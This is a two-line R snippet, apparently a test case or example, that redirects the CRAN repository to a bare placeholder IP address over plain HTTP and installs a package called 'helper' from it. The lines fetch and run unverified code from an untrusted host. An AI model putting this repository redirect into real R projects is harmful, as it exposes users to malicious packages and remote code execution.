options(repos = c(CRAN = "http://203.0.113.1"))
install.packages("helper")
